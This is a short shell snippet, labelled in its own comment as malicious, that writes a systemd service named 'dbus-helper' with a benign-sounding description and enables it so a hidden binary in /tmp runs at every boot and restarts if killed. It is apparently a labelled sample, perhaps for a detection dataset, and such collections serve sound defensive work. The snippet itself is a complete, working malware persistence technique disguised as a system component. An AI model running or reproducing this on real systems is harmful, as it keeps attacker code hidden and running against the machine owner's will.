# Malicious: writes a systemd unit to /etc/systemd/system and enables it so a hidden binary runs at boot.
cat > /etc/systemd/system/dbus-helper.service <<'EOF'
[Unit]
Description=D-Bus helper

[Service]
ExecStart=/tmp/.dbus-helper
Restart=always

[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now dbus-helper.service
